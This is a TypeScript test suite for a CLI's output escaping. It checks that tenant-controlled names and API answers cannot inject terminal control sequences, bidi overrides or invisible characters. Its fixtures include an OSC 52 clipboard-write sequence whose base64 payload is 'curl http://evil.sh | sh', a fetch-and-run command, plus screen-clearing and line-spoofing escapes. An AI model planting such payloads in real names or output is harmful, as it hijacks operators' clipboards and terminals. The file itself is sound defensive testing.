import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import type { ServerResponse } from 'node:http';
import os from 'node:os';
import path from 'node:path';
import type { RequestExplanation } from '@vantageedge/shared/domain/request-explanation';
import { afterEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { formatExplanation } from './commands/explain.js';
import { EXIT } from './exit-codes.js';
import { cell, structured, table, terminalText } from './output.js';
import { formatChanges } from './plan-format.js';
import { closeStandInAdminApis, runCliAgainst, serveStandInAdminApi } from './testing/stand-in-admin-api.js';

// A tenant admin names its resources with terminal escape sequences; an operator lists them with the CLI.
const OSC52 = '\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo\u0007'; // writes the operator's clipboard
const CLEAR = '\u001b[2J\u001b[H';
const EVIL_ORIGIN = `o${OSC52}${CLEAR}x`;
const EVIL_KEY = `k${OSC52}x`;
const EVIL_TENANT = `Evil${CLEAR}`;

/** Every character a terminal may act on: C0, DEL, C1, U+2028/2029, bidi controls (marks too). */
const CONTROLS =
  '\\u0000-\\u001f\\u007f-\\u009f\\u061c\\u200e\\u200f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069';
const ANY_CONTROL = new RegExp(`[${CONTROLS}]`);
/** The same but newline: the lines the CLI lays out itself. */
const RAW_CONTROL = new RegExp(`(?!\\n)[${CONTROLS}]`);

const TENANT = '7b0c2c52-9e42-4a43-9a5c-3c2f4f7b8e11';
const ORIGIN = 'e3d7f6c4-3333-4d6d-8e8e-444455556666';
const KEY = 'a1a1a1a1-4444-4e4e-8f8f-555566667777';

describe('terminalText', () => {
  it('shows every terminal control character as a visible escape', () => {
    expect(terminalText(EVIL_ORIGIN)).toBe(
      'o\\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo\\u0007\\u001b[2J\\u001b[Hx',
    );
    const controls = [
      '\u0000',
      '\u0007',
      '\t',
      '\n',
      '\r',
      '\u001b',
      '\u001f',
      '\u007f',
      '\u0080',
      '\u009b',
      '\u009f',
      '\u2028',
      '\u2029',
      '\u202a',
      '\u202e',
      '\u2066',
      '\u2069',
    ];
    for (const control of controls) {
      const shown = terminalText(`a${control}b`);
      expect(shown).not.toMatch(ANY_CONTROL);
      expect(shown).toBe(`a\\u${control.charCodeAt(0).toString(16).padStart(4, '0')}b`);
    }
  });

  it('keeps ordinary Unicode, and newlines only when asked', () => {
    const text = 'Café Zürich · 東京支店 · 😀 · שלום · a\\u001b';
    expect(terminalText(text)).toBe(text);
    expect(terminalText('one\ntwo\u001b')).toBe('one\\u000atwo\\u001b');
    expect(terminalText('one\ntwo\u001b', { keepNewlines: true })).toBe('one\ntwo\\u001b');
    expect(terminalText(terminalText(EVIL_ORIGIN))).toBe(terminalText(EVIL_ORIGIN));
  });
});

describe('human-readable output escapes what tenants named', () => {
  it('tables', () => {
    const text = table(
      [{ name: EVIL_ORIGIN, extra: { label: 'x\u009b2J\u202e' }, list: [EVIL_KEY, 'fine'] }],
      [
        { header: 'NAME', value: (row) => row.name },
        { header: 'EXTRA', value: (row) => row.extra },
        { header: 'LIST', value: (row) => row.list },
      ],
    );
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).toContain('o\\u001b]52;c;');
    expect(text).toContain('\\u009b2J\\u202e');
    expect(text).toContain('k\\u001b]52;c;');
    // Columns still line up: the escapes are plain ASCII of the width they are printed with.
    const [header, row] = text.split('\n');
    expect(row?.indexOf('{"label"')).toBe(header?.indexOf('EXTRA'));
  });

  it('explain: the API key and origin names, and every other line', () => {
    const answer = {
      tenant_id: TENANT,
      position: '57',
      version: '42',
      request: { method: 'GET', host: 'evil.vantageedge.dev', path: '/x/1', query: '' },
      host: { resolves: true, kind: 'subdomain', host: 'evil.vantageedge.dev', reason: 'the subdomain' },
      path: { normalized: '/x/1', reason: null },
      route: null,
      routes: [],
      auth: {
        mode: 'apikey_required',
        required_scopes: [],
        credential: { kind: 'api_key', status: 'active', name: EVIL_KEY, api_key_id: KEY },
        identity: { kind: 'anonymous' },
        outcome: { ok: true },
        notes: [`note\u2028with a separator`],
      },
      rate_limits: null,
      cache: null,
      upstream: {
        origin_id: ORIGIN,
        origin_name: EVIL_ORIGIN,
        targets: [{ url: 'https://backend.example.com', weight: 1 }],
        load_balancing: null,
        timeout_seconds: 30,
        strip_prefix: null,
        forwarded_path: '/x/1',
      },
      policies: null,
      decision: { stage: 'upstream', status: null, code: null, message: `forwarded\n\u001b[2Kfake line` },
    } as unknown as RequestExplanation;
    const text = formatExplanation('GET', 'https://evil.vantageedge.dev/x/1', answer);
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).toContain('API key "k\\u001b]52;c;');
    expect(text).toContain('Upstream  o\\u001b]52;c;');
    expect(text).toContain('note\\u2028with a separator');
    // A newline in a value cannot start a line of its own.
    expect(text).toContain('forwarded\\u000a\\u001b[2Kfake line');
  });

  it('plans', () => {
    const text = formatChanges([
      { resource: 'origin', id: ORIGIN, name: EVIL_ORIGIN, change: 'changed', fields: [] },
      {
        resource: 'origin',
        id: null,
        name: 'ok',
        change: 'added',
        fields: [{ field: 'name', from: 'a\u0085', to: `b\u2066${CLEAR}` }],
      },
    ]);
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).toContain('~ origin o\\u001b]52;c;');
    expect(text).toContain('name: "a\\u0085" → "b\\u2066\\u001b[2J');
  });

  // Regression: values were cut at 100 characters from their start, so two that differ only further on
  // (a third target of an origin) read the same on both sides of the arrow: the change could not be seen.
  it('plans show where two long values differ', () => {
    const targets = (third: string) =>
      ['https://a.example.com', 'https://b.example.com', third].map((url) => ({ url, weight: 1 }));
    const text = formatChanges([
      {
        resource: 'origin',
        id: ORIGIN,
        name: 'api',
        change: 'changed',
        fields: [
          { field: 'targets', from: targets('https://c.example.com'), to: targets('https://evil.example') },
        ],
      },
    ]);
    const [from, to] = (text.split('\n')[1] ?? '').replace(/^ *targets: /, '').split(' → ');
    expect(from).not.toBe(to);
    expect(from).toContain('c.example.com');
    expect(to).toContain('evil.example');
  });

  // Regression: zero-width and other invisible format characters (Unicode's Cf) were printed raw, so a
  // tenant's route `admin\u200b` or origin `https://api.example\ufeff` looked like another one.
  it('shows invisible format characters as escapes, and their values survive JSON and YAML', () => {
    const invisible = [
      '\u00ad',
      '\u180e',
      '\u200b',
      '\u200c',
      '\u200d',
      '\u2060',
      '\u2064',
      '\u206f',
      '\ufeff',
    ];
    for (const char of invisible) {
      expect(terminalText(`admin${char}`)).toBe(
        `admin\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`,
      );
    }
    const value = { name: `admin${invisible.join('')}` };
    expect(cell(value.name)).not.toMatch(/[\u00ad\u180e\u200b-\u200d\u2060-\u206f\ufeff]/);
    for (const format of ['json', 'yaml'] as const) {
      const written = structured(value, format);
      expect(written).not.toMatch(/[\u00ad\u180e\u200b-\u200d\u2060-\u206f\ufeff]/);
      expect(parse(written)).toEqual(value);
    }
  });

  // Regression: the invisible format characters beyond the BMP were printed raw: terminals draw the tag
  // characters as nothing, so a tenant's key `deploy` + tags spelling "evil" read as a plain `deploy`.
  it('shows the invisible format characters beyond the BMP (tag characters) as escapes too', () => {
    const tags = (text: string) =>
      [...text].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
    const name = `deploy${tags('evil')}\u{e0001}\u{1d173}\u{1bca0}\u{13430}\u{110bd}`;
    const shown = terminalText(name);
    expect(shown).not.toMatch(
      /[\u{e0000}-\u{e007f}\u{1d173}-\u{1d17a}\u{1bca0}-\u{1bca3}\u{13430}-\u{1343f}\u{110bd}]/u,
    );
    expect(shown.startsWith('deploy\\udb40\\udc65\\udb40\\udc76')).toBe(true);
    expect(terminalText(shown)).toBe(shown);
    expect(table([{ name }], [{ header: 'NAME', value: (row) => row.name }])).toContain(
      'deploy\\udb40\\udc65',
    );
    // JSON and YAML: the same escapes, read back as the same value.
    for (const format of ['json', 'yaml'] as const) {
      const written = structured({ name }, format);
      expect(written).not.toMatch(/[\u{e0000}-\u{e007f}\u{1d173}-\u{1d17a}]/u);
      expect(parse(written)).toEqual({ name });
    }
  });

  // Regression: the implicit bidi marks (LRM, RLM, ALM) are bidi controls as much as the overrides
  // (Unicode's Bidi_Control), invisible, and reorder the neutral characters around them; they were printed raw.
  it('shows the implicit bidi marks as escapes too', () => {
    const text = formatChanges([
      {
        resource: 'origin',
        id: ORIGIN,
        name: 'o\u200f',
        change: 'changed',
        fields: [{ field: 'url', from: 'https://a.example/\u200e1', to: 'https://a.example/\u061c2' }],
      },
    ]);
    expect(text).not.toMatch(/[\u061c\u200e\u200f]/);
    expect(text).toContain('~ origin o\\u200f');
    expect(text).toContain('url: "https://a.example/\\u200e1" → "https://a.example/\\u061c2"');
    // In JSON and YAML as escapes of those formats: still the same values.
    for (const format of ['json', 'yaml'] as const) {
      const written = structured({ name: 'o\u200f', url: 'https://a.example/\u200e1' }, format);
      expect(written).not.toMatch(/[\u061c\u200e\u200f]/);
      expect(parse(written)).toEqual({ name: 'o\u200f', url: 'https://a.example/\u200e1' });
    }
  });

  // Regression: the invisible characters outside Unicode's Cf (the rest of Default_Ignorable_Code_Point:
  // Hangul fillers, variation selectors, the combining grapheme joiner, …) were printed raw, so a tenant
  // named `Acme\u3164` or a key `deploy\ufe0f` read as `Acme` and `deploy`.
  it('shows the other invisible characters (Hangul fillers, variation selectors) as escapes too', () => {
    const invisible = [
      '\u034f',
      '\u115f',
      '\u1160',
      '\u17b4',
      '\u17b5',
      '\u180b',
      '\u180f',
      '\u2065',
      '\u3164',
      '\ufe00',
      '\ufe0f',
      '\uffa0',
      '\ufff0',
    ];
    for (const char of invisible) {
      expect(terminalText(`Acme${char}`)).toBe(`Acme\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`);
    }
    const supplement = '\u{e0100}\u{e01ef}\u{e0000}\u{e0002}\u{e0fff}';
    expect(terminalText(`deploy${supplement}`)).toBe(
      'deploy\\udb40\\udd00\\udb40\\uddef\\udb40\\udc00\\udb40\\udc02\\udb43\\udfff',
    );
    const value = { name: `Acme${invisible.join('')}${supplement}` };
    const anyInvisible = /\p{Default_Ignorable_Code_Point}/u;
    const listed = table([value], [{ header: 'NAME', value: (row) => row.name }]);
    expect(listed).not.toMatch(anyInvisible);
    for (const format of ['json', 'yaml'] as const) {
      const written = structured(value, format);
      expect(written).not.toMatch(anyInvisible);
      expect(parse(written)).toEqual(value);
    }
  });
});

async function run(argv: string[], url: string) {
  const { code, stdout, stderr } = await runCliAgainst(argv, url);
  return { code, out: stdout, err: stderr };
}

describe('the CLI against an admin API holding hostile names', () => {
  afterEach(closeStandInAdminApis);

  const origin = { id: ORIGIN, name: EVIL_ORIGIN, targets: [{ url: 'https://backend.example.com' }] };
  const key = { id: KEY, name: EVIL_KEY, key_prefix: 'vk_abc', scopes: [], expires_at: null };
  const tenant = { id: TENANT, name: EVIL_TENANT, subdomain: 'evil', clerk_org_id: null };

  async function adminApi(): Promise<string> {
    const page = (res: ServerResponse, data: unknown[]) =>
      res.end(JSON.stringify({ data, next_cursor: null }));
    return serveStandInAdminApi((req, res) => {
      res.setHeader('content-type', 'application/json');
      const url = req.url ?? '';
      if (url.startsWith('/api/v1/origins?')) return page(res, [origin]);
      if (url.startsWith('/api/v1/api-keys?')) return page(res, [key]);
      if (url.startsWith('/api/v1/tenants?')) return page(res, [tenant]);
      res.statusCode = 400;
      res.end(
        JSON.stringify({
          error: {
            code: 'validation_failed',
            message: `bad${OSC52}`,
            details: [{ field: `name${CLEAR}`, issue: `no\n\u009b2J` }],
          },
        }),
      );
    });
  }

  it('get origins|keys|tenants prints escapes, never the raw bytes', async () => {
    const url = await adminApi();
    for (const [resource, shown] of [
      ['origins', 'o\\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo\\u0007\\u001b[2J\\u001b[Hx'],
      ['keys', 'k\\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo\\u0007x'],
      ['tenants', 'Evil\\u001b[2J\\u001b[H'],
    ] as const) {
      const result = await run(['get', resource], url);
      expect(result.code).toBe(EXIT.ok);
      expect(result.out).not.toMatch(RAW_CONTROL);
      expect(result.out).toContain(shown);
    }
  });

  it('JSON and YAML output stays the API’s own', async () => {
    const url = await adminApi();
    const json = await run(['get', 'origins', '-o', 'json'], url);
    expect(JSON.parse(json.out)).toEqual([origin]);
    expect(json.out).toBe(JSON.stringify([origin], null, 2));
    const yaml = await run(['get', 'keys', '-o', 'yaml'], url);
    expect(yaml.code).toBe(EXIT.ok);
    expect(yaml.out).toContain('\\e]52;c;'); // YAML's own double-quoted escape for ESC
  });

  // Regression: an error answer whose details were not text (a proxy's, another service's) made the CLI
  // itself throw while printing them: no message of its own, and exit 1, which `diff` means "different".
  it('an error answer of another shape is reported with its exit code, never a crash', async () => {
    for (const error of [
      { code: 7, message: { text: 'x' }, details: [{ field: 5, issue: ['\u001b[2J'] }] },
      { code: 7, details: ['loose', null] },
      { code: 'validation_failed', message: `bad${CLEAR}`, details: 'none' },
      'flat',
    ]) {
      const url = await serveStandInAdminApi((_req, res) => {
        res.statusCode = 400;
        res.setHeader('content-type', 'application/json');
        res.end(JSON.stringify({ error }));
      });
      const result = await run(['get', 'tenants'], url);
      expect(result.code, result.err).toBe(EXIT.usage);
      expect(result.err).toMatch(
        /^vantageedge: 400 (http_400: Bad Request|validation_failed: bad\\u001b\[2J)/,
      );
      expect(result.err).not.toContain('    at ');
      expect(result.err).not.toMatch(RAW_CONTROL);
    }
  });

  it('error messages from the API are escaped too', async () => {
    const url = await adminApi();
    const result = await run(['get', 'routes'], url);
    expect(result.code).toBe(EXIT.usage);
    expect(result.err).not.toMatch(RAW_CONTROL);
    expect(result.err).toContain('400 validation_failed: bad\\u001b]52;c;');
    expect(result.err).toContain('  name\\u001b[2J\\u001b[H: no\\u000a\\u009b2J');
  });
});

/**
 * `dump` (and every -o json|yaml) writes what a tenant admin typed. JSON.stringify and the YAML library
 * escape C0, but print C1 controls (U+009B is CSI, U+009D is OSC) and the bidi controls raw; the CLI
 * escapes those too, as \uXXXX inside double-quoted strings, so the text is still the same JSON/YAML
 * and a dumped file applies back to the same config.
 */
describe('dump and JSON/YAML output escape C1 and bidi controls, and stay re-appliable', () => {
  afterEach(closeStandInAdminApis);

  const C1_OSC52 = '\u009d52;c;ZWNobyBwd25lZA==\u009c'; // 8-bit OSC 52 (clipboard write) … 8-bit ST
  const C1_CSI_CLEAR = '\u009b2J\u009bH';
  const BIDI = 'ok\u202e)redro-eht-gnisrever(';
  const document = {
    format: 1,
    tenant: { id: TENANT, name: `Escapes ${BIDI}`, subdomain: 'escapes', clerk_org_id: null },
    origins: [{ id: ORIGIN, name: `o\u2066x\u2069`, url: 'https://backend.example.com' }],
    routes: [
      {
        id: KEY,
        origin: null,
        path_pattern: '/maintenance/*',
        auth_mode: 'public',
        query: { add: { src: `q${C1_CSI_CLEAR}`, plain: `only bidi ${BIDI}` } },
        match: { headers: [{ name: 'x-a', exact: `a\u202ab\u2028c\u0085d\u007fe` }] },
        fixed_response: {
          status: 503,
          headers: { 'retry-after': `60${C1_OSC52}` },
          // A multi-line body the YAML library would print as a block scalar, with controls in it.
          body: `soon ${BIDI}\nline two\twith a tab ${C1_OSC52}\n\u202d${'x'.repeat(50)}\n`,
          content_type: 'text/plain; charset=utf-8',
        },
      },
    ],
  };
  const tenant = { id: TENANT, name: document.tenant.name, subdomain: 'escapes', clerk_org_id: null };

  async function adminApi(planned: unknown[]): Promise<string> {
    return serveStandInAdminApi((req, res) => {
      res.setHeader('content-type', 'application/json');
      const url = req.url ?? '';
      if (url.startsWith('/api/v1/tenants?'))
        return res.end(JSON.stringify({ data: [tenant], next_cursor: null }));
      if (url === `/api/v1/tenants/${TENANT}`) return res.end(JSON.stringify(tenant));
      if (url.startsWith(`/api/v1/tenants/${TENANT}/config/document`))
        return res.end(JSON.stringify({ tenant_id: TENANT, position: '57', version: '42', document }));
      if (url === `/api/v1/tenants/${TENANT}/config/plan` && req.method === 'POST') {
        let text = '';
        req.on('data', (chunk: Buffer) => {
          text += chunk.toString('utf8');
        });
        req.on('end', () => {
          planned.push(JSON.parse(text));
          res.end(JSON.stringify({ tenant_id: TENANT, version: '42', changes: [] }));
        });
        return;
      }
      res.statusCode = 404;
      res.end(JSON.stringify({ error: { code: 'not_found', message: url } }));
    });
  }

  it('dump prints every control as an escape; the file applies back to the same document', async () => {
    const planned: unknown[] = [];
    const url = await adminApi(planned);
    for (const argv of [
      ['dump', '-t', 'escapes'],
      ['-o', 'yaml', 'dump', '-t', TENANT],
    ]) {
      const dump = await run(argv, url);
      expect(dump.code, dump.err).toBe(EXIT.ok);
      expect(dump.out).not.toMatch(RAW_CONTROL);
      expect(dump.out).toContain('\\u009d52;c;ZWNobyBwd25lZA==\\u009c');
      expect(dump.out).toContain('\\u009b2J\\u009bH');
      expect(dump.out).toContain('ok\\u202e)redro-eht-gnisrever(');
      // Still YAML, still the document: parsed back, every character is the one the API sent.
      expect(parse(dump.out)).toEqual(document);

      const file = path.join(await mkdtemp(path.join(os.tmpdir(), 'vantageedge-dump-')), 'tenant.yaml');
      try {
        await writeFile(file, `${dump.out}\n`);
        const applied = await run(['apply', '-f', file], url);
        expect(applied.code, applied.err).toBe(EXIT.ok);
        expect(planned.pop()).toEqual(document);
      } finally {
        await rm(path.dirname(file), { recursive: true, force: true });
      }
    }
  });

  // Regression: the comment lines above the document printed the API's version and position raw, so an
  // answer with a line break and escapes in them cleared the screen and added YAML to the dumped file.
  // They are decimal numbers: such an answer is not the admin API's, and nothing is dumped.
  it('dump refuses a version or position with controls in it, printing none of them', async () => {
    const url = await serveStandInAdminApi((req, res) => {
      res.setHeader('content-type', 'application/json');
      if ((req.url ?? '').startsWith(`/api/v1/tenants/${TENANT}/config/document`)) {
        return res.end(
          JSON.stringify({
            position: `57${CLEAR}`,
            version: `42\nroutes: []\n${OSC52}`,
            document: { format: 1, tenant: { name: 'Acme', subdomain: 'escapes' }, origins: [] },
          }),
        );
      }
      res.end(JSON.stringify(tenant));
    });
    const dump = await run(['dump', '-t', TENANT], url);
    expect(dump.code, dump.err).toBe(EXIT.unavailable);
    expect(dump.err).toContain('is not what the admin API answers');
    expect(dump.out).toBe('');
    expect(dump.err).not.toMatch(RAW_CONTROL);
  });

  it('-o json and -o yaml of any command escape them too, and parse to the API’s values', async () => {
    const url = await adminApi([]);
    const json = await run(['-o', 'json', 'dump', '-t', 'escapes'], url);
    expect(json.out).not.toMatch(RAW_CONTROL);
    expect(json.out).toContain('\\u009b2J\\u009bH');
    expect(JSON.parse(json.out)).toEqual(document);
    for (const format of ['json', 'yaml']) {
      const tenants = await run(['-o', format, 'get', 'tenants'], url);
      expect(tenants.code, tenants.err).toBe(EXIT.ok);
      expect(tenants.out).not.toMatch(RAW_CONTROL);
      expect(tenants.out).toContain('\\u202e');
      expect(parse(tenants.out)).toEqual([tenant]);
    }
  });
});
